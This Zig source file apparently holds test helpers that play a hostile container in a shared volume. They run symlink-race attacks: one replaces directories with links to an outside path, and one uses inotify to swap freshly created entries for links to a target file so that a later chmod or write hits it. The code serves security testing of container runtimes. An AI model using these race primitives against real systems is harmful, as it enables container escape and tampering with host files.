//! What a hostile container does in a volume, its working directory, while another container's start copies files into it.
const std = @import("std");
const linux = std.os.linux;
const input = @import("input.zig");
const output = @import("output.zig");
const signals = @import("signals.zig");
const Args = input.Args;

/// seed-linker OUTSIDE NAME…: whichever NAME (a/file) appears first, its directory becomes a link to OUTSIDE, so that what
/// comes after by that path comes from there. "swapped DIRECTORY" for each, for ever.
pub fn linker(args: Args) u8 {
    if (args.len < 2) return 2;
    output.line(&.{"ready"});
    output.flush();
    while (true) {
        for (args[1..]) |name| {
            if (input.failed(linux.faccessat(linux.AT.FDCWD, name, linux.F_OK, linux.AT.SYMLINK_NOFOLLOW))) continue;
            const path = std.mem.span(name);
            const directory = path[0 .. std.mem.indexOfScalar(u8, path, '/') orelse continue];
            var buffers: [2][256]u8 = undefined;
            const from = signals.join(&buffers[0], &.{directory});
            // Once more it would follow its own link.
            const moved = linux.renameat2(
                linux.AT.FDCWD,
                from,
                linux.AT.FDCWD,
                signals.join(&buffers[1], &.{ directory, ".old" }),
                .{ .NOREPLACE = true },
            );
            if (input.failed(moved) or input.failed(linux.symlink(args[0], from))) continue;
            output.line(&.{ "swapped ", directory });
            output.flush();
        }
    }
}

/// seed-chmodder FILE PREFIX: each new entry PREFIX… becomes a link to FILE as soon as it is there, so that what is done to
/// it next is done to FILE. "swapped" once for each 100.
pub fn chmodder(args: Args) u8 {
    if (args.len < 2) return 2;
    const events = linux.inotify_init1(0);
    if (input.failed(events)) return output.failure(events, "inotify");
    const watched = linux.inotify_add_watch(@intCast(events), ".", linux.IN.CREATE | linux.IN.MOVED_TO);
    if (input.failed(watched)) return output.failure(watched, ".");
    output.line(&.{"ready"});
    output.flush();
    var swaps: u64 = 0;
    var buffer: [65536]u8 align(8) = undefined;
    while (true) {
        const length = linux.read(@intCast(events), &buffer, buffer.len);
        if (input.failed(length)) return output.failure(length, "inotify");
        // The newest is the one at work.
        var at: usize = 0;
        var last: ?[*:0]const u8 = null;
        while (at < length) {
            const event: *const linux.inotify_event = @ptrCast(@alignCast(&buffer[at]));
            if (event.len > 0) last = @ptrCast(&buffer[at + @sizeOf(linux.inotify_event)]);
            at += @sizeOf(linux.inotify_event) + event.len;
        }
        const name = last orelse continue;
        if (!std.mem.startsWith(u8, std.mem.span(name), std.mem.span(args[1]))) continue;
        _ = linux.unlink(".swap");
        if (input.failed(linux.symlink(args[0], ".swap"))) continue;
        if (input.failed(linux.renameat2(linux.AT.FDCWD, ".swap", linux.AT.FDCWD, name, .{}))) continue;
        swaps += 1;
        if (swaps % 100 == 0) output.line(&.{"swapped"});
        output.flush();
    }
}
